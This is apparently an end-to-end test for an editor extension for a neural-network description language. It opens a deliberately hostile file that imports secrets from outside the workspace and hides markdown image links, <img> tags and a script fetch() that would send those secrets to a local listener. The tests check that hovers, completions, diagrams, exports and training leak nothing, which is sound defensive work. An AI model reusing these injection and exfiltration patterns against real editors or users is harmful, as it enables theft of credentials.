/** Someone else's file, opened and used like any other: nothing of it, and of what lies beside it, is sent anywhere. */
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { createServer } from 'node:http';
import type { Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { drawn, openEncoder, write } from '../training/data/folder/pictureFolder.ts';
import { Workbench } from './workbench.ts';

const secret = 'sk-0123456789abcdef';

/** What arrived, whoever sent it. */
const requests: string[] = [];
let listener: Server;
let address: string;
/** Outside of the opened folder. */
let outside: string;

beforeAll(async () => {
  listener = createServer((request, response) => {
    requests.push(request.url ?? '');
    response.end();
  });
  await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve));
  address = `http://127.0.0.1:${(listener.address() as AddressInfo).port}`;
  outside = await mkdtemp(join(tmpdir(), 'cnn-secrets-'));
  await writeFile(join(outside, '.env'), `API_KEY="${secret}"\n`);
  await writeFile(join(outside, 'keys.cnn'), `let TOKEN = "${secret}"\n`);
});
afterAll(async () => {
  await new Promise((resolve) => listener.close(resolve));
  await rm(outside, { recursive: true, force: true });
});

const picture = (what: string): string => `![${what}](${address}/${what}.png?q=`;

/** Line by line what a reader would point at. */
const hostile = (): string => imports() + network();

/** The same without what is refused, so that it can be trained. */
const trained = (): string =>
  ['API_KEY', 'SECRET', 'TOKEN'].map((name) => `let ${name} = "none"\n`).join('') + network();

const imports = (): string => `import { API_KEY } from "${outside}/.env"
import { SECRET } from "./settings.py"
import { TOKEN } from "${outside}/keys.cnn"
`;

const network = (): string => `let url = "${picture('value')}" + API_KEY + ")"
let other = "${picture('python')}" + SECRET + ")"
let third = "${picture('outside')}" + TOKEN + ")"
let html = "<img src='${address}/html.png'><script>fetch('${address}/script')</script>"
let plain = "${picture('plain')})"

# ${picture('comment')}) <img src="${address}/tag.png"> [run](command:workbench.action.quit) [![x][r]][r]
#
# [r]: ${address}/reference.png
block Show(label, more = plain) {
  Conv(8, 3) -> BatchNorm -> ReLU
}

# ${picture('network')})
network Leaky(classes = 2, title = "${picture('argument')})") {
  input 32x32x3
  Show(url, more: other)
  Show(third, more: html)
  Show(plain)
  GlobalAvgPool -> Dense(classes) -> Softmax
}

train Leaky on "./pictures" {
  batch     4
  epochs    1
  prepare   Resize(32x32) -> Normalize
}
`;

/** Class names can hold no slash; a browser reads a backslash as one. */
const className = (): string => `![x](${address.replaceAll('/', '\\')}\\class.png)`;

async function writePictures(folder: string): Promise<void> {
  const encoder = await openEncoder();
  const image = '<img src=x>';
  for (const [label, name] of [className(), image].entries()) {
    for (let index = 0; index < 20; index++) {
      const bytes = encoder.png(drawn([32, 32, 3], (y, x) => 120 * label + ((7 * y + 5 * x + index) % 130)));
      write(folder, { [`nets/pictures/${name}/${index}.png`]: bytes });
    }
  }
}

describe.each([true, false])('a hostile file, where the workspace is trusted: %s', (isTrusted) => {
  let workbench: Workbench;

  beforeAll(async () => {
    workbench = await Workbench.open(
      {
        // Inside, so that neither what lies around the folder is in reach of them.
        'nets/leaky.cnn': hostile(),
        'nets/trained.cnn': trained(),
        'nets/settings.py': `SECRET = "${secret}"\n`,
        // Not open, and found by whoever looks through the folder.
        'closed.cnn': `import { API_KEY } from "${outside}/.env"\n# ${picture('closed')})\nblock Hidden(x = API_KEY) { ReLU }\n`,
      },
      { 'cnn.engine': 'wasm', 'editor.hover.delay': 100 },
      { isTrusted },
    );
    await writePictures(workbench.folder);
    await workbench.openFile('leaky.cnn');
    // Explained, so that what is pointed at is known.
    await workbench.editor.line('32×32×8').first().waitFor();
  });
  afterAll(() => workbench.close());

  /** Everything that is on the screen. */
  const screen = async (): Promise<string> => {
    const frames = workbench.page.frames();
    const texts = await Promise.all(
      frames.map((frame) =>
        frame
          .locator('body')
          .innerText()
          .catch(() => ''),
      ),
    );
    return texts.join('\n');
  };

  test('is hovered everywhere', async () => {
    // A picture that is in no hover is one that an empty hover does not have either: these do show something.
    const hover = async (text: string): Promise<string> => {
      const shown = await workbench.editor.hover(text);
      expect(await shown.locator('img').count()).toBe(0);
      const words = await shown.innerText();
      await workbench.page.mouse.move(1, 1);
      await workbench.editor.press('Escape');
      await shown.waitFor({ state: 'hidden' });
      return words;
    };
    expect(await hover('url, more')).toContain('url');
    expect(await hover('plain)')).toContain('![plain](');
    expect(await hover('html)')).toContain('<img src=');
    expect(await hover('Show(label')).toContain('comment');
    expect(await hover('Leaky(classes')).toContain('network');
    for (const text of [
      ...['url = ', 'other = ', 'third = ', 'html = ', 'plain = ', 'label, more', 'more = plain', 'title = '],
      ...['more: other', 'third, more', 'Conv(8', 'Leaky on', 'pictures"', 'Resize'],
    ])
      await hover(text);
    await workbench.screenshot(`hostile-${isTrusted ? 'trusted' : 'restricted'}`);
    expect(await screen()).not.toContain(secret);
  });

  test('is completed, with documentation', async () => {
    await workbench.editor.moveTo(20, 3);
    await workbench.editor.type('Sho');
    await workbench.editor.press('Control+Space');
    await workbench.editor.suggestion('Show').first().waitFor();
    await workbench.editor.press('Control+Space'); // the documentation beside the list
    await workbench.page.locator('.suggest-details:visible').waitFor();
    await workbench.editor.press('Escape');
    await workbench.editor.type('w(');
    await workbench.page.locator('.parameter-hints-widget.visible').waitFor();
    expect(await screen()).not.toContain(secret);
    await workbench.editor.press('Escape');
    await workbench.editor.replaceAll(hostile());
  });

  test('tells each import that is refused in a sentence', async () => {
    const rows = await workbench.problems();
    await rows.filter({ hasText: '.env' }).first().waitFor();
    await rows.filter({ hasText: 'settings.py' }).first().waitFor();
    await rows.filter({ hasText: 'keys.cnn' }).first().waitFor();
    expect(await screen()).not.toContain(secret);
  });

  test('is drawn, looked at in the diagram, exported, and found by its names', async () => {
    await workbench.editor.focus();
    await workbench.runCommand('CNN: Open Diagram');
    const frame = await workbench.webview('.canvas svg.cnn');
    const items = frame.locator('g.item');
    await items.first().waitFor();
    for (let index = 0; index < (await items.count()); index++) await items.nth(index).click({ force: true });
    expect(await frame.locator('img, image').count()).toBe(0);
    expect(await screen()).not.toContain(secret);
    await workbench.editor.focus();
    await workbench.runCommand('CNN: Export Diagram as SVG');
    const name = workbench.page.locator('.quick-input-widget:visible input[type=text]');
    await expect.poll(() => name.inputValue()).toMatch(/Leaky\.svg$/);
    await name.press('Enter');
    await workbench
      .notification(/Leaky\.svg/)
      .getByRole('button', { name: 'Open' })
      .click();
    await workbench.tab('Leaky.svg').waitFor();
    const exported = await readFile(join(workbench.folder, 'nets/Leaky.svg'), 'utf8');
    expect(exported).not.toMatch(/<(image|img|script|a|use|foreignObject)\b|\bhref=|url\(http/i);
    expect(exported).not.toContain(secret);
    await workbench.openFile('leaky.cnn');
    await workbench.page.keyboard.press('Control+T');
    await workbench.page.locator('.quick-input-widget:visible input[type=text]').fill('#Hidden');
    await workbench.quickEntry('Hidden').first().waitFor();
    await workbench.page.keyboard.press('Escape');
  });

  const train = async (): Promise<void> => {
    await workbench.openFile('trained.cnn');
    await workbench.runCommand('CNN: Train Network');
    const frame = await workbench.webview('main header h1');
    await frame.locator('.notice', { hasText: 'Finished after' }).waitFor({ timeout: 240_000 });
    expect(await frame.locator('img').count()).toBe(0);
    await workbench.screenshot('hostile-trained');
    expect(await screen()).not.toContain(secret);
  };
  if (isTrusted) test('is trained', train, 300_000);

  test('sent nothing', () => {
    expect(requests).toEqual([]);
  });
});

test('the listener hears what is sent', async () => {
  await fetch(`${address}/heard`);
  expect(requests).toEqual(['/heard']);
});
